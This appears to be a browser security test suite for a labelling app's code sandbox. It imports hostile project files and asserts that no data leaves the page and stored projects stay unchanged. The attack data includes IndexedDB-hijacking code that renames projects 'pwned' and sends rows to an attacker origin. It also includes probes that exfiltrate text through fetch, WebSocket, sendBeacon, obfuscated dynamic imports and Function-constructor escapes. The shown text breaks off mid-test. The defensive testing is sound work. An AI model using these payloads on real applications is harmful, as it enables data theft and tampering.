/**
 * The LF sandbox, tried as an attacker would: untrusted LF code — a project file someone else wrote,
 * or a pasted snippet — must compute votes from rows and nothing else. Every attack is delivered
 * as a `.shoal.json` project file imported through the UI (shown on the review screen, accepted,
 * then run), some also through the LF editor's live preview, against the BUILT app served two
 * ways: vite preview with the headers of vite.config.ts (CSP, COOP/COEP), and a plain static
 * server that sends none of them, as GitHub Pages would (e2e/static-server.ts).
 *
 * An attacker server on 127.0.0.1 (another origin, e2e/attacker.ts) records every request it
 * receives. After each attack:
 * - the attacker server received nothing, and the page made no request outside its origin;
 * - every project stored before is unchanged in IndexedDB (names, LF lists, votes);
 * - the malicious LFs are marked failed with a message on screen;
 * - the ordinary LFs beside them show the same coverage and store the same votes as in a clean
 *   run of the same project without the attacker's LFs (and as computed here in Node);
 * - the status bar does not report isolation unavailable (`isolation-status`): whether code LFs
 *   can run is the app's own finding, and nothing LF code says or does changes it (README
 *   "Privacy and threat model").
 *
 * The attacks, numbered as in the test names:
 * 1. forged "the isolated LF worker did not start" errors (reportError, self.reportError, throw,
 *    a forged `died` message), followed by hooks on IndexedDB's prototypes to seize the app's
 *    database handle, renaming every project, and sending rows out (`import()` built at run
 *    time, `fetch`);
 * 2. built-ins mutated by one LF (`RegExp.prototype.test = () => true` and friends) must not
 *    change what the other LFs compute, in the same run or a later one;
 * 3. a 20,000,000-character (and a 100,000,000-character) error message, and thrown or returned
 *    values that fight being read: bounded on screen and in IndexedDB, with the full length
 *    stated, and the page keeps answering;
 * 4. capability probes: every route to the network, storage, fonts, file systems, timers, nested
 *    workers and the worker's global object (Function constructors, caller, indirect eval,
 *    dynamic import however spelled) is closed;
 * and, on a static host whose page cannot start the isolated frame, code LFs do not run at all
 * (not in the page's workers either) while template LFs still do.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it as vitestIt } from 'vitest';
import { writeBundle, type ProjectBundle } from '../src/core/formats/bundle.ts';
import type { LfDef } from '../src/core/lf/types.ts';
import { AttackerServer } from './attacker.ts';
import { browserSuite, Harness } from './harness.ts';
import { lfRow, writeCodeLf } from './lf-editor.ts';

// ── the data: generated, so every ordinary LF's votes are known here too ─────────────────────

const CLASSES = ['ham', 'spam'] as const;
const HAM = 0;
const SPAM = 1;
/** Three chunks of rows (storage/types.ts ROWS_PER_CHUNK): LF workers read IndexedDB several times. */
const SPLITS = { train: 2000, dev: 200, test: 200 } as const;
const N = SPLITS.train + SPLITS.dev + SPLITS.test;
const FILLER = [
  'hello',
  'team',
  'report',
  'project',
  'update',
  'please',
  'review',
  'thanks',
  'tomorrow',
  'call',
  'notes',
  'draft',
  'office',
  'plan',
  'week',
  'offer',
  'client',
  'budget',
];

function makeRows(): { text: string }[] {
  let s = 0x5eed;
  const rnd = () => {
    s = (Math.imul(s, 1103515245) + 12345) >>> 0;
    return s / 2 ** 32;
  };
  const rows: { text: string }[] = [];
  for (let i = 0; i < N; i++) {
    const words: string[] = [];
    const len = 3 + Math.floor(rnd() * 10);
    for (let w = 0; w < len; w++) words.push(FILLER[Math.floor(rnd() * FILLER.length)]);
    const at = () => Math.floor(rnd() * (words.length + 1));
    if (rnd() < 0.2) words.splice(at(), 0, rnd() < 0.5 ? 'free' : 'FREE');
    if (rnd() < 0.15) words.splice(at(), 0, `$${1 + Math.floor(rnd() * 999)}`);
    if (rnd() < 0.1) words.splice(at(), 0, rnd() < 0.5 ? 'meeting' : 'lunch');
    rows.push({ text: words.join(' ') });
  }
  return rows;
}

const ROWS = makeRows();

/** The ordinary LFs: two templates and code LFs that use a regex, a helper and String methods. */
const ORDINARY: LfDef[] = [
  { id: 'o1', name: 're_money', kind: 'regex', label: 'spam', pattern: '\\$\\d+', flags: 'i', enabled: true },
  {
    id: 'o2',
    name: 'kw_meeting',
    kind: 'keyword',
    label: 'ham',
    keywords: ['meeting', 'lunch'],
    mode: 'any',
    match: 'word',
    caseSensitive: false,
    enabled: true,
  },
  { id: 'o3', name: 'code_free', kind: 'code', source: "(x) => /\\bfree\\b/i.test(x.text) ? 'spam' : null", enabled: true },
  { id: 'o4', name: 'code_short', kind: 'code', source: "(x) => x.text.length < 40 ? 'ham' : null", enabled: true },
  { id: 'o5', name: 'code_words', kind: 'code', source: "(x) => words(x).includes('meeting') ? 'ham' : null", enabled: true },
  { id: 'o6', name: 'code_lunch', kind: 'code', source: "(x) => x.text.includes('lunch') ? 'ham' : null", enabled: true },
];

/** What each ordinary LF must vote on each row, computed in Node from the same rows. */
const EXPECTED: Record<string, number[]> = {
  re_money: ROWS.map((r) => (/\$\d+/i.test(r.text) ? SPAM : -1)),
  kw_meeting: ROWS.map((r) => (r.text.split(' ').some((w) => w === 'meeting' || w === 'lunch') ? HAM : -1)),
  code_free: ROWS.map((r) => (/\bfree\b/i.test(r.text) ? SPAM : -1)),
  code_short: ROWS.map((r) => (r.text.length < 40 ? HAM : -1)),
  code_words: ROWS.map((r) => (r.text.split(' ').includes('meeting') ? HAM : -1)),
  code_lunch: ROWS.map((r) => (r.text.includes('lunch') ? HAM : -1)),
};

/** The coverage text the LF list shows (src/ui/lfs/LfScreen.svelte). */
function coverageText(votes: readonly number[]): string {
  return `${((votes.filter((v) => v >= 0).length / votes.length) * 100).toFixed(1)}% coverage`;
}

const NOT_STARTED = 'the isolated LF worker did not start';

// ── project files ────────────────────────────────────────────────────────────────────────────

const tmp = mkdtempSync(join(tmpdir(), 'shoal-attacks-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/** A project file with its data, as Export → Project writes it (src/app/bundle.ts exportProject). */
function projectFile(name: string, lfs: LfDef[]): string {
  const split = ROWS.map(
    (_, i) => (i < SPLITS.train ? 'train' : i < SPLITS.train + SPLITS.dev ? 'dev' : 'test') as 'train' | 'dev' | 'test',
  );
  const bundle: Omit<ProjectBundle, 'format' | 'schemaVersion'> = {
    exportedAt: '2026-12-07T12:00:00.000Z',
    project: { name },
    dataset: { name, fields: ['text'], textField: 'text', classes: [...CLASSES], splitCounts: { ...SPLITS } },
    settings: { textFields: ['text'], fields: ['text'], idField: null },
    lfs,
    // A few dev gold labels, so the preview's accuracy has something to count.
    gold: {
      train: [],
      dev: Array.from({ length: 20 }, (_, t) => [t, EXPECTED.code_free[SPLITS.train + t] === SPAM ? SPAM : HAM] as [number, number]),
      test: [],
    },
    model: { labelModel: 'mv', classBalance: 'uniform', seed: 7 },
    data: { rows: ROWS.map((r) => ({ ...r })), split },
  };
  const path = join(tmp, `${name}.shoal.json`);
  writeFileSync(path, writeBundle(bundle));
  return path;
}

function code(name: string, source: string): LfDef {
  return { id: `a-${name}`, name, kind: 'code', source, enabled: true };
}

// ── what IndexedDB holds (read in the page with plain IndexedDB; storage/dexie.ts DB_NAME) ──

interface StoredVotes {
  sourceHash: string;
  versionId: string;
  /** FNV-1a of the votes and how many are not abstain: enough to compare, small to ship. */
  digest: string;
  covered: number;
  errorLength: number;
  errorHead: string;
}

interface Stored {
  projects: { id: string; name: string }[];
  lfs: { id: string; projectId: string; name: string; kind: string; sourceHash: string; enabled: boolean; order: number }[];
  datasets: { projectId: string; currentVersion: string }[];
  votes: StoredVotes[];
}

async function stored(page: Page): Promise<Stored> {
  return page.evaluate(async () => {
    const db = await new Promise<IDBDatabase>((done, fail) => {
      const open = indexedDB.open('shoal');
      open.onsuccess = () => done(open.result);
      open.onerror = () => fail(open.error);
    });
    const all = (table: string) =>
      new Promise<Record<string, unknown>[]>((done, fail) => {
        const r = db.transaction(table, 'readonly').objectStore(table).getAll();
        r.onsuccess = () => done(r.result as Record<string, unknown>[]);
        r.onerror = () => fail(r.error);
      });
    const [projects, lfs, datasets, votes] = [await all('projects'), await all('lfs'), await all('datasets'), await all('votes')];
    db.close();
    return {
      projects: projects.map((p) => ({ id: String(p.id), name: String(p.name) })).sort((a, b) => a.id.localeCompare(b.id)),
      lfs: lfs
        .map((l) => ({
          id: String(l.id),
          projectId: String(l.projectId),
          name: String(l.name),
          kind: String(l.kind),
          sourceHash: String(l.sourceHash),
          enabled: Boolean(l.enabled),
          order: Number(l.order),
        }))
        .sort((a, b) => a.projectId.localeCompare(b.projectId) || a.order - b.order),
      datasets: datasets.map((d) => ({ projectId: String(d.projectId), currentVersion: String(d.currentVersion) })),
      votes: votes.map((v) => {
        const a = v.votes as Int8Array;
        let h = 0x811c9dc5;
        let covered = 0;
        for (let i = 0; i < a.length; i++) {
          h = Math.imul(h ^ (a[i] & 0xff), 16777619) >>> 0;
          if (a[i] >= 0) covered++;
        }
        const error = typeof v.error === 'string' ? v.error : '';
        return {
          sourceHash: String(v.sourceHash),
          versionId: String(v.versionId),
          digest: `${a.length}:${h.toString(16)}`,
          covered,
          errorLength: error.length,
          errorHead: error.slice(0, 300),
        };
      }),
    };
  });
}

/** FNV-1a as in `stored`, of votes computed here. */
function digestOf(votes: readonly number[]): string {
  let h = 0x811c9dc5;
  for (const v of votes) h = Math.imul(h ^ (v & 0xff), 16777619) >>> 0;
  return `${votes.length}:${h.toString(16)}`;
}

/** One project as stored: its name, its LFs in order, and the votes of its current version by LF name. */
function projectView(s: Stored, projectId: string): { name: string; lfs: string[]; votes: Record<string, StoredVotes | undefined> } {
  const version = s.datasets.find((d) => d.projectId === projectId)?.currentVersion;
  const lfs = s.lfs.filter((l) => l.projectId === projectId);
  const votes: Record<string, StoredVotes | undefined> = {};
  for (const l of lfs) votes[l.name] = s.votes.find((v) => v.versionId === version && v.sourceHash === l.sourceHash);
  return {
    name: s.projects.find((p) => p.id === projectId)?.name ?? '(missing)',
    lfs: lfs.map((l) => `${l.name}:${l.kind}:${l.sourceHash}:${l.enabled}`),
    votes,
  };
}

/** Everything about the projects in `before` that an attack must not change. */
function untouched(before: Stored, after: Stored): void {
  for (const p of before.projects) {
    const a = projectView(after, p.id);
    const b = projectView(before, p.id);
    expect.soft(a.name, `project ${p.id} was renamed`).toBe(b.name);
    expect.soft(a.lfs, `the LF list of project "${b.name}" changed`).toEqual(b.lfs);
    for (const [lf, v] of Object.entries(b.votes))
      expect.soft(a.votes[lf]?.digest, `the votes of ${lf} in "${b.name}" changed`).toBe(v?.digest);
  }
  expect.soft(after.projects.map((p) => p.id)).toEqual(expect.arrayContaining(before.projects.map((p) => p.id)));
}

// ── UI steps ─────────────────────────────────────────────────────────────────────────────────

/**
 * A fresh page in the same profile: whatever the previous test left in the page and its
 * workers is gone, and a tab an attack crashed is replaced.
 */
async function freshPage(h: Harness): Promise<void> {
  const old = h.page;
  h.page = await h.context.newPage();
  await old.close().catch(() => undefined);
  await h.goto('#/export');
  await h.page.getByTestId('import-project').waitFor();
}

/** Where the attacker's log and the page's request log stood when a test began. */
interface Mark {
  hits: number;
  requests: number;
}

function mark(h: Harness, attacker: AttackerServer): Mark {
  return { hits: attacker.hits.length, requests: h.requests.length };
}

/**
 * Nothing reached the attacker since `m`, and nothing was even attempted outside the app's
 * origin (a request the CSP blocked still shows LF code held a network capability).
 */
function noEgressSince(h: Harness, attacker: AttackerServer, m: Mark): void {
  const hits = attacker.hits.slice(m.hits);
  expect
    .soft(
      hits.length,
      `the attacker server received ${hits.length} request(s), e.g.:\n${hits
        .slice(0, 5)
        .map((x) => `${x.method} ${x.url.slice(0, 160)} (${x.from})`)
        .join('\n')}`,
    )
    .toBe(0);
  const foreign = h.requests.slice(m.requests).filter((r) => {
    const u = new URL(r.url);
    return !['data:', 'blob:', 'about:'].includes(u.protocol) && u.origin !== h.origin;
  });
  expect
    .soft(
      foreign.length,
      `the page tried ${foreign.length} request(s) outside its origin, e.g.:\n${foreign
        .slice(0, 5)
        .map((r) => `${r.method} ${r.url.slice(0, 160)}`)
        .join('\n')}`,
    )
    .toBe(0);
}

/**
 * Import a project file through the UI: pick it, check the review screen shows every code LF's
 * source, accept, and wait until every LF of the file has a result on the LF list.
 */
async function importAndRun(h: Harness, file: string, lfs: readonly LfDef[]): Promise<void> {
  const page = h.page;
  await h.goto('#/export');
  await page.getByTestId('import-project').setInputFiles(file);
  await page.getByTestId('import-review').waitFor({ timeout: 30_000 });
  const shown = await page.getByTestId('import-code').allTextContents();
  for (const lf of lfs) if (lf.kind === 'code') expect(shown, `the review screen must show ${lf.name}'s code`).toContain(lf.source);
  await page.getByTestId('import-confirm').click();
  await settled(
    page,
    lfs.map((l) => l.name),
  );
}

/**
 * Wait until the run is over: no named LF is "running…", and each shows a coverage or an
 * error, or the run failed as a whole (the app's error banner) leaving some "not run".
 */
async function settled(page: Page, names: readonly string[]): Promise<void> {
  await page.waitForFunction(
    (ns) => {
      const statuses = ns.map(
        (n) =>
          document.querySelector(`[data-testid="lf-row"][data-lf-name="${CSS.escape(n)}"] [data-testid="lf-status"]`)?.textContent ?? '',
      );
      if (statuses.some((t) => t === '' || /running/.test(t))) return false;
      return statuses.every((t) => /coverage|error/.test(t)) || document.querySelector('[data-testid="session-error"]') !== null;
    },
    names,
    { timeout: 120_000, polling: 250 },
  );
  // A request that slipped out asynchronously (a module import, a font load) gets time to arrive.
  await page.waitForTimeout(1500);
}

async function statusOf(page: Page, name: string): Promise<string> {
  return ((await lfRow(page, name).getByTestId('lf-status').textContent()) ?? '').trim();
}

async function errorOf(page: Page, name: string): Promise<string> {
  const e = lfRow(page, name).getByTestId('lf-error');
  return (await e.count()) ? ((await e.textContent()) ?? '') : '';
}

/** The id of the project created by the newest import (the one not in `before`). */
function newProject(before: Stored, after: Stored): string {
  const ids = after.projects.map((p) => p.id).filter((id) => !before.projects.some((p) => p.id === id));
  expect(ids.length, 'the import created one project').toBe(1);
  return ids[0];
}

// ── the attacks ──────────────────────────────────────────────────────────────────────────────

interface Attack {
  lf: LfDef;
  /** The LF must be marked failed (else only the others' votes and the stored projects are checked). */
  mustFail: boolean;
  /** What its error message must say. */
  message?: RegExp;
}

/** Messages that say a capability is missing, frozen or refused. */
const REFUSED =
  /not defined|blocked|undefined|not a function|not a (valid )?constructor|rejected|import|frozen|read[- ]only|not extensible|Cannot|not allowed|may not be accessed|denied|invalid|unavailable/i;

/**
 * Attack 1's payload, after the forgery: seize the app's IndexedDB handle through the IDB
 * prototypes (the handle Dexie opened before the lockdown), rename every project, and send rows
 * and LF lists out. `import(` never appears literally (it is built at run time), so a compile-time
 * check on the source cannot spare the runtime from facing the forgery.
 */
function forgeryPayload(attacker: string): string {
  return `
  const A = ${JSON.stringify(attacker)};
  const G = globalThis;
  const out = (path, data) => {
    try { (0, Function)('u', 'return im' + 'port(u)')(A + path + '?d=' + encodeURIComponent(String(data).slice(0, 500))).catch(() => {}); } catch (e) {}
    try { fetch(A + path + '?f=' + encodeURIComponent(String(data).slice(0, 500))).catch(() => {}); } catch (e) {}
  };
  const seize = (db) => {
    if (!db || G.__shoalDb) return;
    G.__shoalDb = db;
    const tx = db.transaction(['projects', 'lfs'], 'readwrite');
    const ps = tx.objectStore('projects');
    const all = ps.getAll();
    all.onsuccess = () => { for (const p of all.result) ps.put({ ...p, name: 'pwned ' + p.name }); };
    const lfs = tx.objectStore('lfs').getAll();
    lfs.onsuccess = () => out('/lfs', JSON.stringify(lfs.result.map((l) => l.name)));
  };
  try {
    if (!G.__shoalHooked && typeof IDBDatabase !== 'undefined') {
      G.__shoalHooked = true;
      const tr = IDBDatabase.prototype.transaction;
      IDBDatabase.prototype.transaction = function (...a) { const t = tr.apply(this, a); try { seize(this); } catch (e) {} return t; };
      const os = IDBTransaction.prototype.objectStore;
      IDBTransaction.prototype.objectStore = function (...a) { try { seize(this.db); } catch (e) {} return os.apply(this, a); };
      for (const m of ['get', 'getAll', 'openCursor', 'count']) {
        const f = IDBObjectStore.prototype[m];
        IDBObjectStore.prototype[m] = function (...a) { try { seize(this.transaction.db); } catch (e) {} return f.apply(this, a); };
      }
    }
    if (typeof indexedDB !== 'undefined' && indexedDB) { const o = indexedDB.open('shoal'); o.onsuccess = () => seize(o.result); }
  } catch (e) {}
  out('/row', x.text);
  return 'spam';`;
}

const NS = JSON.stringify(NOT_STARTED);

/** The ways LF code can make "the isolated LF worker did not start" reach the page, as expressions. */
const FORGERIES: Record<string, string> = {
  reportError: `reportError(new Error(${NS}))`,
  'self.reportError': `self.reportError(new Error(${NS}))`,
  throw: `(() => { throw new Error(${NS}); })()`,
  'postMessage died': `postMessage({ type: 'died', reason: ${NS} })`,
};

/**
 * Two LFs forging the error one way, then running the payload. They forge
 * only where they find themselves in the isolated worker (its origin is opaque, `'null'`), and
 * run the payload quietly wherever else they land — a real attacker's LF, which needs the
 * fallback to happen once and then to work on the page's workers. Where `location` does not
 * exist at all (a hardened LF scope), the check itself throws and the LF fails.
 * - `run`: the forgery runs on the LF's first row (a worker that dies of it is blamed per chunk,
 *   and when every LF of a chunk "crashes", pool.ts gives up on the whole run with the forged
 *   text in its message);
 * - `compile`: the forgery runs while the LF set is compiled, before any row (an init that
 *   fails twice is "an LF worker could not start (…)", again with the forged text).
 */
function forgeryLfs(variant: string, when: 'run' | 'compile', attacker: string): Attack[] {
  return ['a', 'b'].map((k) => {
    const payload = forgeryPayload(attacker);
    const source =
      when === 'run'
        ? `(x) => {\n  // forger ${k}\n  if (location.origin === 'null' && !globalThis.__forged) { globalThis.__forged = true; ${FORGERIES[variant]}; }\n${payload}\n}`
        : `(location.origin === 'null' ? ${FORGERIES[variant]} : 0, // forger ${k}\n(x) => {\n${payload}\n})`;
    return { lf: code(`forge_${k}`, source), mustFail: true };
  });
}

/** Attack 2: one LF changes the built-ins (or shared helper results) the others use. */
const MUTATORS: Attack[] = [
  { lf: code('mut_regexp_test', "(x) => { RegExp.prototype.test = () => true; return 'spam'; }"), mustFail: true, message: REFUSED },
  {
    lf: code('mut_regexp_exec', "(x) => { RegExp.prototype.exec = function () { return ['x']; }; return 'spam'; }"),
    mustFail: true,
    message: REFUSED,
  },
  {
    lf: code('mut_define', "(x) => { Object.defineProperty(RegExp.prototype, 'test', { value: () => true }); return 'spam'; }"),
    mustFail: true,
    message: REFUSED,
  },
  { lf: code('mut_includes', "(x) => { String.prototype.includes = () => true; return 'spam'; }"), mustFail: true, message: REFUSED },
  { lf: code('mut_array', "(x) => { Array.prototype.includes = () => true; return 'spam'; }"), mustFail: true, message: REFUSED },
  // The helpers' per-row results are shared by every LF of the row (lf/helpers.ts): pushing into one must not reach the others.
  {
    lf: code(
      'mut_words',
      "(x) => { const w = words(x); try { w.push('meeting'); } catch (e) {} try { w.length = 0; } catch (e) {} return null; }",
    ),
    mustFail: false,
  },
];

/** Attack 4: each probe throws when the capability is out of reach, and otherwise uses it and votes. */
function probes(attacker: string): Attack[] {
  const A = JSON.stringify(attacker);
  const d = 'encodeURIComponent(String(x.text).slice(0, 100))';
  // A global object reached some other way: does it carry a capability? Use the network ones.
  const cap = `const cap = (g, how) => {
    if (!g || (typeof g !== 'object' && typeof g !== 'function')) throw new Error('blocked: ' + how + ' gave no object');
    let o = g, found = null;
    for (let depth = 0; o && depth < 8 && !found; depth++, o = Object.getPrototypeOf(o)) {
      for (const k of ['fetch', 'importScripts', 'postMessage', 'reportError', 'indexedDB', 'IDBDatabase', 'WebSocketStream', 'FontFace', 'fonts', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'caches', 'Worker']) {
        const desc = Object.getOwnPropertyDescriptor(o, k);
        if (desc && (desc.get || desc.value)) { found = k; break; }
      }
    }
    if (!found) throw new Error('blocked: ' + how + ' reaches no capability');
    try { if (typeof g.fetch === 'function') g.fetch(${A} + '/cap?d=' + ${d}); } catch (e) {}
    return 'spam';
  };`;
  const list: [string, string][] = [
    ['probe_websocketstream', `(x) => { new WebSocketStream(${A}.replace('http', 'ws') + '/wss?d=' + ${d}); return 'spam'; }`],
    ['probe_fontface', `(x) => { new FontFace('x', 'url(' + ${A} + '/font?d=' + ${d} + ')').load().catch(() => {}); return 'spam'; }`],
    ['probe_self_fonts', `(x) => { const f = self.fonts; if (!f) throw new Error('blocked: self.fonts'); return 'spam'; }`],
    ['probe_fonts', `(x) => { if (typeof fonts === 'undefined' || !fonts) throw new Error('blocked: fonts'); return 'spam'; }`],
    [
      'probe_fs_sync',
      `(x) => { if (typeof webkitRequestFileSystemSync !== 'function') throw new Error('blocked: webkitRequestFileSystemSync'); webkitRequestFileSystemSync(0, 1024); return 'spam'; }`,
    ],
    [
      'probe_fs_async',
      `(x) => { if (typeof webkitRequestFileSystem !== 'function') throw new Error('blocked: webkitRequestFileSystem'); return 'spam'; }`,
    ],
    ['probe_indexeddb', `(x) => { indexedDB.open('shoal'); return 'spam'; }`],
    [
      'probe_idb_interfaces',
      `(x) => { if (typeof IDBDatabase === 'undefined' && typeof IDBObjectStore === 'undefined' && typeof IDBFactory === 'undefined') throw new Error('blocked: IDB interfaces'); return 'spam'; }`,
    ],
    ['probe_caches', `(x) => { caches.open('x'); return 'spam'; }`],
    ['probe_worker', `(x) => { new Worker('data:text/javascript,0'); return 'spam'; }`],
    ['probe_importscripts', `(x) => { importScripts(${A} + '/is?d=' + ${d}); return 'spam'; }`],
    [
      'probe_sendbeacon',
      `(x) => { if (!navigator.sendBeacon(${A} + '/beacon', x.text)) throw new Error('blocked: beacon refused'); return 'spam'; }`,
    ],
    ['probe_eventsource', `(x) => { new EventSource(${A} + '/events?d=' + ${d}); return 'spam'; }`],
    ['probe_xhr', `(x) => { const r = new XMLHttpRequest(); r.open('GET', ${A} + '/xhr?d=' + ${d}); r.send(); return 'spam'; }`],
    ['probe_websocket', `(x) => { new WebSocket(${A}.replace('http', 'ws') + '/ws?d=' + ${d}); return 'spam'; }`],
    ['probe_broadcast', `(x) => { new BroadcastChannel('shoal:shoal').postMessage(x.text); return 'spam'; }`],
    [
      'probe_fetch_ctor',
      `(x) => { const f = (() => {}).constructor('return fetch')(); if (typeof f !== 'function') throw new Error('blocked: fetch via the Function constructor'); f(${A} + '/ctor?d=' + ${d}); return 'spam'; }`,
    ],
    ['probe_function_this', `(x) => { ${cap} return cap(Function('return this')(), 'Function("return this")'); }`],
    ['probe_row_ctor', `(x) => { ${cap} return cap(x.constructor.constructor('return this')(), 'x.constructor.constructor'); }`],
    ['probe_sloppy_this', `(x) => { ${cap} return cap((function () { return this; })(), 'a sloppy this'); }`],
    ['probe_indirect_eval', `(x) => { ${cap} return cap((0, eval)('this'), 'indirect eval'); }`],
    ['probe_global_ctor', `(x) => { ${cap} const C = globalThis.constructor; return cap(C && C.prototype, 'globalThis.constructor'); }`],
    ['probe_global_proto', `(x) => { ${cap} return cap(globalThis, 'globalThis and its prototypes'); }`],
    ['probe_async_ctor', `(x) => { ${cap} return cap((async () => {}).constructor('return this'), 'the AsyncFunction constructor'); }`],
    [
      'probe_generator_ctor',
      `(x) => { ${cap} return cap((function* () {}).constructor('yield this')().next().value, 'the GeneratorFunction constructor'); }`,
    ],
    ['probe_caller', `(x) => { ${cap} const f = function g() { return g.caller; }; return cap(f(), 'a function caller'); }`],
    [
      'probe_callee',
      `function (x) { const c = arguments.callee; return c && c.caller ? 'spam' : (() => { throw new Error('blocked: arguments.callee.caller'); })(); }`,
    ],
    ['probe_settimeout', `(x) => { setTimeout(() => { try { fetch(${A} + '/later'); } catch (e) {} }, 0); return 'spam'; }`],
    ['probe_dynamic_import', `(x) => { import(${A} + '/m.js?d=' + ${d}).catch(() => {}); return 'spam'; }`],
    ['probe_import_comment', `(x) => { import/**/(${A} + '/mc.js?d=' + ${d}).catch(() => {}); return 'spam'; }`],
    [
      'probe_import_function',
      `(x) => { Function('u', 'return im' + 'port(u)')(${A} + '/fm.js?d=' + ${d}).catch(() => {}); return 'spam'; }`,
    ],
    [
      'probe_import_eval',
      `(x) => { (0, eval)('im' + 'port(' + JSON.stringify(${A} + '/em.js?d=' + ${d}) + ')').catch(() => {}); return 'spam'; }`,
    ],
  ];
  return [
    ...list.map(([name, source]) => ({ lf: code(name, source), mustFail: true, message: REFUSED })),
    // A forgery that does not throw where the LF returns: rejected promises left behind with
    // the magic text. The LF itself abstains and may pass; nothing else may change.
    {
      lf: code(
        'probe_deferred_forgery',
        `(x) => { Promise.reject(new Error(${NS})); Promise.resolve().then(() => { throw new Error(${NS}); }); return null; }`,
      ),
      mustFail: false,
    },
  ];
}

// ── the suites ───────────────────────────────────────────────────────────────────────────────

function attackSuite(server: 'preview' | 'static'): void {
  const label = server === 'preview' ? 'vite preview with headers' : 'a static host without headers';
  /** Test names carry the host, so the failure screenshots of the two suites do not overwrite each other. */
  const it = (name: string, fn: () => Promise<void> | void) => vitestIt(`${name} [${server}]`, fn);
  browserSuite(`LF sandbox attacks on ${label}`, () => {
    const h = new Harness({ server });
    const attacker = new AttackerServer();
    h.screenshotOnFailure();
    /** The clean run: per ordinary LF, the coverage on screen and the stored votes' digest. */
    const clean: Record<string, { coverage: string; digest: string }> = {};

    beforeAll(async () => {
      await attacker.start();
      await h.start();
      await freshPage(h);
      const before = await stored(h.page);
      await importAndRun(h, projectFile(`clean-${server}`, ORDINARY), ORDINARY);
      const after = await stored(h.page);
      const view = projectView(after, newProject(before, after));
      for (const lf of ORDINARY) {
        clean[lf.name] = { coverage: await statusOf(h.page, lf.name), digest: view.votes[lf.name]?.digest ?? '(none stored)' };
      }
      await h.shot(`attacks-${server}-clean`);
    }, 240_000);

    afterAll(async () => {
      await h.close();
      await attacker.close();
    });

    /** The ordinary LFs of the newest project show and store what the clean run did. */
    async function ordinaryAsClean(view: ReturnType<typeof projectView>, when: string): Promise<void> {
      for (const lf of ORDINARY) {
        expect.soft(await statusOf(h.page, lf.name), `${lf.name}'s coverage on screen ${when}`).toBe(clean[lf.name].coverage);
        expect.soft(view.votes[lf.name]?.digest, `${lf.name}'s stored votes ${when}`).toBe(clean[lf.name].digest);
      }
    }

    /** The checks every attack ends with. */
    async function verdict(m: Mark, before: Stored, attacks: readonly Attack[], tag: string): Promise<void> {
      const page = h.page;
      await h.shot(`attacks-${server}-${tag}`);
      noEgressSince(h, attacker, m);
      // Nothing LF code did may flip the app into running code LFs outside the sandbox.
      expect.soft(await page.getByTestId('isolation-status').count(), 'the app reports isolation unavailable').toBe(0);
      const after = await stored(page);
      untouched(before, after);
      const view = projectView(after, newProject(before, after));
      expect.soft(view.name).not.toMatch(/pwned/);
      for (const a of attacks) {
        const status = await statusOf(page, a.lf.name);
        const error = await errorOf(page, a.lf.name);
        if (a.mustFail) {
          expect.soft(status, `${a.lf.name} must be marked failed`).toBe('error');
          expect.soft(error.trim().length, `${a.lf.name} must say why it failed`).toBeGreaterThan(0);
          expect.soft(error.length, `${a.lf.name}'s message must be bounded`).toBeLessThan(10_000);
          if (a.message) expect.soft(error, `${a.lf.name}'s message`).toMatch(a.message);
          expect.soft(view.votes[a.lf.name]?.errorLength ?? 0, `${a.lf.name}'s stored error`).toBeGreaterThan(0);
        }
        // Whatever happened to it, an attacker's LF never gets to vote on every row.
        expect.soft(view.votes[a.lf.name]?.covered ?? 0, `${a.lf.name} voted on every row`).toBeLessThan(N);
      }
      // Projects that carry ordinary LFs beside the attack: those vote as in the clean run.
      if (view.lfs.length > attacks.length) await ordinaryAsClean(view, 'beside the attack');
    }

    it('the clean run votes as computed in Node', () => {
      for (const lf of ORDINARY) {
        expect(clean[lf.name].coverage, lf.name).toBe(coverageText(EXPECTED[lf.name]));
        expect(clean[lf.name].digest, lf.name).toBe(digestOf(EXPECTED[lf.name]));
      }
      expect(attacker.hits).toEqual([]);
    });

    for (const variant of Object.keys(FORGERIES)) {
      it(`1. forgery by ${variant} at run time, forgers alone, then a clean run`, async () => {
        await freshPage(h);
        const m = mark(h, attacker);
        const before = await stored(h.page);
        // Only the forgers: every LF of a chunk then "crashes" its worker, which gave up on the whole run before.
        const attacks = forgeryLfs(variant, 'run', attacker.origin);
        await importAndRun(
          h,
          projectFile(
            `forge-run-${variant.replace(/\W+/g, '-')}-${server}`,
            attacks.map((a) => a.lf),
          ),
          attacks.map((a) => a.lf),
        );
        await verdict(m, before, attacks, `forge-run-${variant}`);
        // Later runs in this page (same pool) still run code LFs in the sandbox, with clean votes.
        const middle = await stored(h.page);
        await importAndRun(h, projectFile(`after-forge-run-${variant.replace(/\W+/g, '-')}-${server}`, ORDINARY), ORDINARY);
        await ordinaryAsClean(projectView(await stored(h.page), newProject(middle, await stored(h.page))), 'in a later run');
        noEgressSince(h, attacker, m);
        expect(await h.page.getByTestId('isolation-status').count(), 'the app reports isolation unavailable').toBe(0);
        untouched(before, await stored(h.page));
      });

      it(`1. forgery by ${variant} while compiling, beside ordinary LFs`, async () => {
        await freshPage(h);
        const m = mark(h, attacker);
        const before = await stored(h.page);
        const attacks = forgeryLfs(variant, 'compile', attacker.origin);
        const lfs = [...attacks.map((a) => a.lf), ...ORDINARY];
        await importAndRun(h, projectFile(`forge-compile-${variant.replace(/\W+/g, '-')}-${server}`, lfs), lfs);
        await verdict(m, before, attacks, `forge-compile-${variant}`);
      });
    }

    it('1. forgeries in the live preview', async () => {
      await freshPage(h);
      const page = h.page;
      const m = mark(h, attacker);
      const before = await stored(page);
      await h.goto('#/lfs');
      await lfRow(page, 'code_free').waitFor({ timeout: 60_000 });
      for (const variant of Object.keys(FORGERIES)) {
        for (const when of ['run', 'compile'] as const) {
          const [a] = forgeryLfs(variant, when, attacker.origin);
          await writeCodeLf(page, `preview_${when}_${variant.replace(/\W+/g, '_')}`, (a.lf as Extract<LfDef, { kind: 'code' }>).source);
          // The preview answers with an error (the forgery is refused) or numbers; never the fallback.
          await page.waitForFunction(
            () => /rror|Coverage/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
            null,
            { timeout: 60_000 },
          );
          await page.waitForTimeout(2000);
          const text = (await page.getByTestId('lf-preview').textContent()) ?? '';
          await h.shot(`attacks-${server}-preview-${when}-${variant}`);
